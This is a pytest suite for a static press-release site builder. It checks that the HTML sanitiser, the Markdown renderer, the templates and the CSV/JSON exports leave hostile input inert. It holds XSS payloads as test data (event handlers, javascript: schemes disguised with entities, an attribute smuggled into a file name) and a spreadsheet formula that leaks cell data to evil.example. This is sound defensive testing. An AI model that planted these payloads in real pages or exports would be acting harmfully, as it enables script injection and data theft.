"""Hostile content: nothing a release, a page or issuer.yaml says can run script or a formula.

The sanitiser is checked against the OWASP filter-evasion classes (tests/hostile.py), the
Markdown renderer against the attacks Markdown itself allows, and a built site full of
attacks (tests/fixtures/sites/attacks) in every file it writes: pages, feeds, JSON-LD, CSV
and JSON. tests/browser/test_hostile_browser.py opens the same pages in Chromium.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import markdown
import pytest

from dateline.content import markup
from dateline.content.sanitize import clean_html
from dateline.errors import DatelineError
from hostile import LEGACY, VECTORS, inert_problems, write_vector_release
from sitebuild import ROOT, SITES, build_site

MARKDOWN_SETTINGS = {"MARKDOWN": {"extension_configs": {"markdown.extensions.extra": {}},
                                  "output_format": "html5"}}
RELEASE = "releases/2024/attribute-lists/index.html"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RECIPIENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

# What Markdown itself lets an author write: attribute lists and addresses whose scheme
# hides behind entities (Python-Markdown passes both through to the HTML).
MARKDOWN_VECTORS = {
    "attribute list onerror": '![c](x.png){: onerror="alert(1)" }',
    "attribute list onclick": '[a](http://example.com){: onclick="alert(1)" }',
    "attribute list on a heading": '## Head {: onfocus="alert(1)" autofocus="" tabindex="0" }',
    "attribute list style": 'Text\n{: style="background:url(javascript:alert(1))" }',
    "decimal entity scheme": "[a](&#106;avascript:alert(1))",
    "hex entity scheme": "[a](&#x6A;avascript:alert(1))",
    "named colon": "[a](javascript&colon;alert(1))",
    "reference link": "[r]\n\n[r]: &#106;avascript:alert(1)",
    "image entity scheme": "![i](&#106;avascript:alert(1))",
    "autolink-like": "<javascript:alert(1)>",
}


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_sanitiser_leaves_every_owasp_vector_inert(name):
    vector = VECTORS[name]
    if name not in LEGACY:
        assert inert_problems(vector), f"the oracle must see the raw {name} vector as live"
    assert inert_problems(clean_html(vector)) == [], clean_html(vector)


@pytest.mark.parametrize("name", sorted(MARKDOWN_VECTORS))
def test_markdown_renderer_leaves_attribute_lists_and_entity_schemes_inert(name):
    source = MARKDOWN_VECTORS[name]
    unsafe = markdown.markdown(source, extensions=["extra"], output_format="html5")
    if name != "autolink-like":  # Python-Markdown itself refuses that one
        assert inert_problems(unsafe), f"plain Markdown should obey {name}: {unsafe}"
    rendered = markup.converter(MARKDOWN_SETTINGS).convert(source)
    assert inert_problems(rendered) == [], rendered


@pytest.mark.parametrize("url", ["&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
                                 "javascript&colon;alert(1)", "JAVASCRIPT:alert(1)",
                                 " java\tscript:alert(1)", "data:text/html,x", "vbscript:x"])
def test_markdown_layer_alone_judges_addresses_as_a_browser_decodes_them(url):
    """The first of the two layers: the tree processor drops these before the sanitiser."""
    assert not markup.is_safe_url(url)


@pytest.mark.parametrize("url", ["https://a.example/?b=1&amp;c=2", "../2023/x/", "#fn:1",
                                 "mailto:ir@example.com", "tel:+16045550142", "chart.png"])
def test_markdown_layer_keeps_ordinary_addresses(url):
    assert markup.is_safe_url(url)


def test_sanitiser_keeps_what_releases_use():
    source = (
        "Intro with a [link](https://example.com/a?b=1&c=2), [mail](mailto:ir@example.com), "
        "[phone](tel:+16045550142) and a [relative](../2023/other/) one.[^1]\n\n"
        "| Hole | Grade |\n|:-----|------:|\n| K-1  | 0.52 |\n\n"
        "![Core photo](core.jpg)\n\n## Results {: #results .lead }\n\n"
        "*[WO3]: tungsten trioxide\n\nWO3 grades.\n\n"
        "- first\n- second\n\nThen:\n\n1. one\n2. two\n\n> quoted *emphasis* and **strong**\n\n"
        "    code block\n\nTerm\n:   Definition\n\n---\n\nline  \nbreak `code`\n\n"
        "[^1]: A footnote.\n"
    )
    html = markup.converter(MARKDOWN_SETTINGS).convert(source)
    for kept in (
        '<a href="https://example.com/a?b=1&amp;c=2">link</a>',
        '<a href="mailto:ir@example.com">mail</a>', '<a href="tel:+16045550142">phone</a>',
        '<a href="../2023/other/">relative</a>', '<th style="text-align:left">Hole</th>',
        '<td style="text-align:right">0.52</td>', '<img alt="Core photo" src="core.jpg">',
        '<h2 class="lead" id="results">Results</h2>', '<abbr title="tungsten trioxide">WO3</abbr>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>', '<li id="fn:1">',
        "<ul>\n<li>first</li>\n<li>second</li>\n</ul>", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>",
        "<blockquote>\n<p>quoted <em>emphasis</em> and <strong>strong</strong></p>\n</blockquote>",
        "<pre><code>code block\n</code></pre>", "<dl>\n<dt>Term</dt>\n<dd>Definition</dd>\n</dl>",
        "<hr>", "line<br>\nbreak <code>code</code>",
    ):
        assert kept in html, (kept, html)
    # nothing Markdown wrote was dropped: the sanitiser changes no element of a plain release
    plain = markdown.Markdown(extensions=["extra"], output_format="html5").convert(source)
    assert re.findall(r"<(\w+)", html) == re.findall(r"<(\w+)", plain)


# --- a built site full of attacks ---------------------------------------------------------


@pytest.fixture(scope="module")
def attacked_site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("attacks")
    shutil.copytree(SITES / "attacks" / "content", base / "content")
    write_vector_release(base / "content")
    return build_site(base / "content", base / "output", base / "cache")


def test_every_page_of_the_attacked_site_is_inert(attacked_site):
    pages = sorted(attacked_site.rglob("*.html"))
    assert len(pages) >= 8
    for path in pages:
        problems = inert_problems(path.read_text(encoding="utf-8"), page=True)
        assert problems == [], (str(path.relative_to(attacked_site)), problems)


def test_attacks_are_shown_as_text_where_they_were_written(attacked_site):
    release = (attacked_site / RELEASE).read_text(encoding="utf-8")
    assert "Kestrel results &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>" in release
    # issuer.yaml's disclaimer and legend: raw HTML stays text, links lose javascript:
    assert "forward-looking statements. &lt;script&gt;alert(1)&lt;/script&gt;</p>" in release
    assert "this release. &lt;svg onload=alert(1)&gt;&lt;/svg&gt;</p>" in release
    assert "<p>See <a>our policy</a> and <a>the other one</a>.</p>" in release
    assert 'Read the <a href="https://northgate.example.com/assays">assay table</a>' in release
    about = (attacked_site / "about/index.html").read_text(encoding="utf-8")
    assert "tungsten. &lt;script&gt;alert(1)&lt;/script&gt;</p>" in about
    assert "<p><a>Our site</a></p>" in about


def _feed_html(path: Path) -> list[str]:
    """The parts of a feed a reader renders as HTML: Atom's type="html", RSS descriptions.
    (Titles are plain text in both formats; markup in them is shown as characters.)"""
    parts = []
    for node in ET.parse(path).iter():
        name = node.tag.rsplit("}", 1)[-1]
        if name == "description" or node.get("type") == "html":
            parts.append(node.text or "")
    return parts


def _without_dateline(paragraph: str) -> str:
    return re.sub(r'^<span class="dateline">[^<]*</span>\s*', "", paragraph)


def test_every_owasp_vector_in_a_release_body_is_text(attacked_site):
    page = (attacked_site / "releases/2024/owasp-vectors/index.html").read_text(encoding="utf-8")
    assert inert_problems(page, page=True) == []
    paragraphs = re.findall(r"<p>(.*?)</p>", page, re.S)
    for name in VECTORS:  # each vector is there, its markup as characters
        # the lead paragraph opens with its dateline span, set by leadline.py
        [shown] = [p for p in map(_without_dateline, paragraphs) if p.startswith(f"{name}: ")]
        assert "&lt;" in shown, (name, shown)
        assert set(re.findall(r"<(\w+)", shown)) <= {"code", "em", "strong"}, (name, shown)
    ld = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S).group(1)
    assert json.loads(ld)["articleBody"].count(": <") >= 40


def test_feeds_carry_only_inert_html(attacked_site):
    feeds = sorted((attacked_site / "feeds").rglob("*.xml"))
    assert len(feeds) == 6
    for path in feeds:
        bodies = _feed_html(path)
        assert any("onerror" in body for body in bodies), path  # the attacks reached the feed
        for body in bodies:
            assert inert_problems(body) == [], (path.name, body[:300])


def test_json_ld_has_no_angle_brackets_and_keeps_the_text(attacked_site):
    release = (attacked_site / RELEASE).read_text(encoding="utf-8")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', release, re.S).group(1)
    assert not re.search(r"[<>&]", block)
    record = json.loads(block)
    assert record["headline"].startswith("Northgate <!--<script> Kestrel results </script>")
    assert record["dateline"] == "Vancouver <!--<script>, Canada"
    assert record["publisher"]["name"] == "Northgate <!--<script> Tungsten Corp."
    assert "Kestrel project <!--<script> today." in record["articleBody"]
    # the page goes on after the block: the body is there, not swallowed by the script
    after = release[release.index(block) + len(block):]
    assert after.startswith("</script>") and re.search(
        r'<p>(?:<span class="dateline">[^<]*</span>\s*)?Northgate Tungsten Corp\. reports assays',
        after)


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("name", ["grants", "milestones"])
def test_no_csv_cell_is_a_formula(attacked_site, name):
    rows = _cells(attacked_site / name / f"{name}.csv")
    assert len(rows) == 3  # the header, a hand-written fact, an extracted one
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA_STARTS), cell
    for row in rows[1:]:  # the attacks reached the file, made harmless
        assert any(cell.startswith("'") for cell in row), row
    # a body paragraph that starts like a formula reaches the file as the fact's sentence
    sentences = [dict(zip(rows[0], row))["sentence"] for row in rows[1:]]
    assert any(s.startswith(("'=cmd|", "'+SUM(")) for s in sentences), sentences


def test_csv_keeps_the_value_behind_an_apostrophe_and_json_keeps_it_as_is(attacked_site):
    header, *rows = _cells(attacked_site / "grants" / "grants.csv")
    [grant] = [dict(zip(header, row)) for row in rows if "attribute-lists" in row[2]]
    assert grant["recipient"] == "'" + RECIPIENT
    assert grant["role"] == "'+director"
    assert grant["number"] == "100000"
    records = json.loads((attacked_site / "grants" / "grants.json").read_text(encoding="utf-8"))
    assert RECIPIENT in [record["recipient"] for record in records]


# --- refused before anything is written ---------------------------------------------------


def _problems(content: Path, tmp_path: Path) -> list[str]:
    with pytest.raises(DatelineError) as caught:
        build_site(content, tmp_path / "output")
    assert not (tmp_path / "output").exists()
    return [f"{p.path}:{p.line}: {p.field}: {p.message}" for p in caught.value.problems]


PLAIN_RELEASE = """---
title: Northgate Reports Progress
date: 2024-05-01
ticker: "TSXV: NGT"
tags: [operations]
---
Northgate reports progress.
"""


@pytest.mark.parametrize("name", ['2024-05-01-x"onmouseover="alert(1)"a=".md',
                                  "2024-05-01-Hello World!.md"])
def test_a_file_name_that_is_no_slug_is_an_error(tiny_site, tmp_path, name):
    (tiny_site / "releases" / "2024" / name).write_text(PLAIN_RELEASE, encoding="utf-8")
    slug = name[len("2024-05-01-"):-len(".md")]
    [problem] = _problems(tiny_site, tmp_path)
    assert problem.endswith(
        f"{name}:1: slug: expected a file name whose slug is lowercase letters, digits and "
        f"hyphens, or a slug: field, found {slug!r}")


def test_a_slug_field_makes_any_file_name_usable(tiny_site, tmp_path):
    text = PLAIN_RELEASE.replace("tags:", "slug: northgate-progress\ntags:")
    (tiny_site / "releases" / "2024" / "2024-05-01-Progress Report!.md").write_text(text)
    site = build_site(tiny_site, tmp_path / "output")
    assert (site / "releases/2024/northgate-progress/index.html").is_file()


def test_a_control_character_in_a_body_is_an_error_not_a_broken_feed(tiny_site, tmp_path):
    """Word writes U+000B for a manual line break; XML 1.0 has no way to carry it."""
    text = PLAIN_RELEASE + "Second line.\n\nA pasted\x0bline break and\x0canother.\n"
    (tiny_site / "releases" / "2024" / "2024-05-01-pasted.md").write_text(text)
    [problem] = _problems(tiny_site, tmp_path)
    assert problem.endswith(
        "2024-05-01-pasted.md:10: body: expected text without control characters (a space or "
        "a line break instead), found '\\x0b' and 1 more in the body")


def test_pages_and_releases_in_other_formats_are_refused(tiny_site, tmp_path):
    (tiny_site / "pages" / "raw.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (tiny_site / "pages" / "notes.rst").write_text("Notes\n=====\n\n.. raw:: html\n")
    (tiny_site / "pages" / "old.mkd").write_text("Title: Old\n\n<script>x</script>")
    (tiny_site / "releases" / "2024" / "2024-06-01-shouting.MD").write_text(PLAIN_RELEASE)
    problems = _problems(tiny_site, tmp_path)
    found = sorted((Path(p.split(":1: ")[0]).name, p.split(" found ")[1]) for p in problems)
    why = " (Dateline reads no other format, so nothing skips validation)"
    assert found == [("2024-06-01-shouting.MD", "'.MD'" + why), ("notes.rst", "'.rst'" + why),
                     ("old.mkd", "'.mkd'" + why), ("raw.html", "'.html'" + why)]
    expected = ":1: format: expected a Markdown file ending in .md or .markdown"
    assert all(expected in p for p in problems)


def test_a_build_without_template_autoescape_is_refused(tiny_site, tmp_path):
    with pytest.raises(DatelineError) as caught:
        build_site(tiny_site, tmp_path / "output",
                   JINJA_ENVIRONMENT={"trim_blocks": True, "lstrip_blocks": True})
    assert str(caught.value.problems[0]) == (
        "pelicanconf.py:1: JINJA_ENVIRONMENT: expected autoescape: True "
        "(the theme escapes through it), found False")


def test_pelicanconf_turns_autoescape_on():
    assert '"autoescape": True' in (ROOT / "pelicanconf.py").read_text(encoding="utf-8")


def test_templates_escape_every_url_they_write(tiny_site, tmp_path):
    """Autoescape, not the slug rule, keeps a quote in a URL from opening an attribute."""
    hostile_url = 'https://investors.example.com/"onmouseover="alert(1)"x="'
    site = build_site(tiny_site, tmp_path / "output", SITEURL=hostile_url)
    pages = sorted(site.rglob("*.html"))
    home = (site / "index.html").read_text(encoding="utf-8")
    assert 'href="https://investors.example.com/&#34;onmouseover=&#34;alert(1)&#34;x=&#34;/' in home
    for path in pages:
        assert inert_problems(path.read_text(encoding="utf-8"), page=True) == [], path


def test_an_upgraded_renderer_never_serves_html_the_old_one_cached(tmp_path, monkeypatch):
    """Pelican's reader cache knows files by mtime only: after an upgrade of the plugin (here,
    from a build without the sanitiser) it would serve the old HTML, handlers and all."""
    from dateline.build import releases, uptodate
    from dateline.pages import writer
    from dateline.runtime import cache
    from dateline.search import follow

    content = tmp_path / "content"
    shutil.copytree(SITES / "attacks" / "content", content)
    release = tmp_path / "output" / RELEASE
    with monkeypatch.context() as old_code:
        old_code.setattr(markup, "clean_html", lambda html: html)
        # every cache key the plugin's code is part of
        for module in (cache, releases, uptodate, writer, follow):
            old_code.setattr(module, "code_version", lambda: "older-plugin")
        build_site(content, tmp_path / "output")
    assert 'onclick="alert(1)"' in release.read_text(encoding="utf-8")
    build_site(content, tmp_path / "output")
    assert inert_problems(release.read_text(encoding="utf-8"), page=True) == []


def test_sanitiser_drops_nothing_from_real_and_generated_releases():
    """Bodies nobody wrote for this test, the real sample release and 150 generated ones, keep
    every element (a missing element in the allow-list once dropped every list)."""
    from dateline.content.frontmatter import split
    from dateline_corpus import generator as corpus

    plain = markdown.Markdown(extensions=["extra"], output_format="html5")
    converter = markup.converter(MARKDOWN_SETTINGS)
    bodies = [split(path.read_text(encoding="utf-8"))[1]
              for path in sorted((ROOT / "content" / "releases").rglob("*.md"))]
    assert bodies
    bodies += [release.body_markdown for release in corpus.iter_releases(150, seed=11)]
    tags = set()
    for body in bodies:
        html = converter.reset().convert(body)
        expected = re.findall(r"<(\w+)", plain.reset().convert(body))
        assert re.findall(r"<(\w+)", html) == expected, body[:200]
        tags.update(expected)
    assert {"p", "ul", "li", "strong", "h2"} <= tags, tags
